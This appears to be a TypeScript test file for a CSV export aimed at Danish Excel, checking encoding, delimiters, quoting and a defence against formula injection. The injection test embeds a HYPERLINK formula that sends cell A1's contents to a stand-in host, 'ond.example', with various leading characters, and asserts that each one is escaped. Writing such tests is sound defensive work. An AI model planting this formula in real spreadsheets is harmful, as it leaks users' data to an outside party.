import assert from "node:assert/strict";
import { parse } from "csv-parse/sync";
import { sheetWriter } from "../../src/documents/sheet-file.ts";

const text = (rows: readonly (readonly string[])[]): string =>
  Buffer.from(sheetWriter.write(rows)).toString();
const read = (rows: readonly (readonly string[])[]): string[][] =>
  parse(text(rows), { bom: true, delimiter: ";" });

describe("a sheet for Danish Excel", () => {
  it("is UTF-8 that says so, with semicolons and the line ends of Windows", () => {
    assert.equal(text([["Mødet", "Ærø"], ["1"]]), "\uFEFFMødet;Ærø\r\n1\r\n");
  });

  for (const begin of ["=", "+", "-", "@", "\t", "\r"])
    it(`has no cell that is run because it begins with ${JSON.stringify(begin)}`, () => {
      const formula = `${begin}HYPERLINK("https://ond.example/"&A1;"Bilag")`;
      assert.deepEqual(read([[formula, "efter"]]), [[`'${formula}`, "efter"]]);
    });

  it("keeps a text in its cell, whatever signs are in it", () => {
    const row = ['Bilag "1"; to linjer\nher', "a-b=c+d@e", "", " indrykket", "§ 3; stk. 2"];
    assert.deepEqual(read([row]), [row]);
  });
});
